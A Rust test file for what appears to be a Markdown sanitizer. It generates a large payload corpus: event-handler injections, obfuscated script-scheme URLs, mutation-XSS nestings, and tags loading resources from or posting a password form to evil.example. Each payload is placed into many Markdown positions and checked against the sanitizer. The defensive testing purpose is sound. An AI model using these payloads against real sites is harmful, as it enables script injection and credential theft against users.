//! Payloads of our own: each kind of attack in each place where a text can put it.

use super::checker::check;
use super::{html, mail};

const HANDLERS: [&str; 12] = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "onbegin",
    "ontoggle",
    "onpointerenter",
    "onbeforeinput",
    "ONERROR",
    "onError\u{c}",
];

const ELEMENTS: [&str; 24] = [
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video",
    "audio",
    "input autofocus",
    "details open",
    "select",
    "marquee",
    "object",
    "embed",
    "form",
    "button",
    "a",
    "kbd",
    "abbr title=\"x\"",
    "math",
    "style",
    "table",
    "textarea",
    "p",
    "isindex",
    "x-y",
];

/// Handlers of every element, with the spellings of the space before them that browsers accept.
fn handlers() -> Vec<String> {
    let spaces = [" ", "/", "\t", "\n", "\u{c}", "\"", " x=\""];
    let mut payloads = Vec::new();
    for (element, space) in ELEMENTS.into_iter().zip(spaces.into_iter().cycle()) {
        for handler in HANDLERS {
            payloads.push(format!("<{element}{space}{handler}=alert(1)>"));
            payloads.push(format!("<{element} {handler}='alert(1)'>x"));
        }
    }
    payloads
}

/// Addresses that run script or carry a document, in the spellings of which some filter or other was not aware.
fn addresses() -> Vec<String> {
    let mut payloads = Vec::new();
    for scheme in ["javascript", "vbscript", "data", "livescript", "jar", "blob", "file", "view-source", "filesystem"] {
        let (first, rest) = scheme.split_at(3);
        for spelling in [
            scheme.to_owned(),
            scheme.to_uppercase(),
            format!(" {scheme}"),
            format!("\u{1}{scheme}"),
            format!("&#1;{scheme}"),
            format!("{first}&Tab;{rest}"),
            format!("{first}&NewLine;{rest}"),
            format!("{first}&#x0A;{rest}"),
            format!("{first}&#0000010{rest}"),
            format!("{first}\\{rest}"),
            format!("{first}%0a{rest}"),
            format!("{first}\u{200b}{rest}"),
            format!("{first}\u{202e}{rest}"),
            format!("&#{};{}", u32::from(scheme.as_bytes()[0]), &scheme[1..]),
            format!("&#x{:x};{}", scheme.as_bytes()[0], &scheme[1..]),
        ] {
            payloads.push(format!("{spelling}:alert(1)"));
            payloads.push(format!("{spelling}&colon;//%0Aalert(1)"));
            payloads.push(format!("{spelling}:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="));
        }
    }
    payloads.extend(
        ["//evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "/&Tab;/evil.example", "https:evil.example"]
            .map(String::from),
    );
    payloads
}

/// Documents that mean something else when a browser reads them a second time.
fn mutations() -> Vec<String> {
    let shells = [
        "svg", "math", "noscript", "template", "style", "title", "textarea", "xmp", "select", "table", "p", "details",
        "kbd",
    ];
    let inner =
        ["style", "mglyph", "foreignObject", "desc", "annotation-xml encoding=\"text/html\"", "mtext", "noembed", "b"];
    let core = "<!--</style></title></textarea></noscript>--><img src=x onerror=alert(1)>";
    let mut payloads = Vec::new();
    for shell in shells {
        for within in inner {
            payloads.push(format!("<{shell}><{within}>{core}"));
            payloads.push(format!(
                "<{shell}><{within}><a title=\"</{shell}><img src=x onerror=alert(1)>\"></{within}></{shell}>"
            ));
            payloads.push(format!("<{shell}></p><{within}><![CDATA[</{within}><script>alert(1)</script>]]>"));
        }
    }
    payloads
}

/// Style, requests to elsewhere, and elements that change a page.
fn pages() -> Vec<String> {
    [
        "<style>@import 'https://evil.example';</style>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "<kbd style=position:fixed>x</kbd>",
        "<link rel=stylesheet href=https://evil.example>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example>",
        "<img srcset=\"https://evil.example 1x\">",
        "<video poster=https://evil.example>",
        "<table background=https://evil.example>",
        "<form action=https://evil.example><input name=password></form>",
        "<button formaction=https://evil.example>",
        "<object data=https://evil.example>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<svg><use href=\"https://evil.example#x\"></svg>",
        "<svg><image href=\"https://evil.example\"></svg>",
        "<input type=checkbox data-task=0>",
        "<a class=mention href=/people/other>@Mara</a>",
        "<div id=main data-turbo-stream>",
        "<turbo-stream action=replace target=main>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
    ]
    .map(String::from)
    .to_vec()
}

/// Where a text of Markdown takes an author's words.
const PLACES: [&str; 20] = [
    "@",
    "> @",
    "- @",
    "# @",
    "`@`",
    "*@*",
    "[@](/x)",
    "[x](@)",
    "[x](<@>)",
    "[x](/x \"@\")",
    "[x](/x '@')",
    "![@](/files/x)",
    "![x](@)",
    "![x](/files/x \"@\")",
    "<@>",
    "[x]\n\n[x]: @ \"@\"",
    "```@\n@\n```",
    "x[^@]\n\n[^@]: @",
    "a|b\n-|-\n@|@",
    "<details><summary>@</summary>\n\n@\n\n</details>",
];

/// Each payload in all places of one document, and alone in three that change from one payload to the next.
fn check_in_each_place(payloads: &[String]) {
    for (payload, number) in payloads.iter().zip(0..) {
        let everywhere = PLACES.join("\n\n").replace('@', payload);
        check(&html(&everywhere));
        check(&mail(&everywhere));
        for place in PLACES.iter().cycle().skip(3 * number).take(3) {
            check(&html(&place.replace('@', payload)));
        }
    }
}

#[test]
fn no_handler_gets_through() {
    check_in_each_place(&handlers());
}

#[test]
fn no_script_in_an_address_gets_through() {
    check_in_each_place(&addresses());
}

#[test]
fn no_mutation_gets_through() {
    check_in_each_place(&mutations());
}

#[test]
fn no_style_or_request_gets_through() {
    check_in_each_place(&pages());
}

#[test]
fn there_are_hundreds_of_payloads() {
    let mut all = [handlers(), addresses(), mutations(), pages()].concat();
    all.sort();
    all.dedup();
    assert!(all.len() > 1000, "{}", all.len());
}
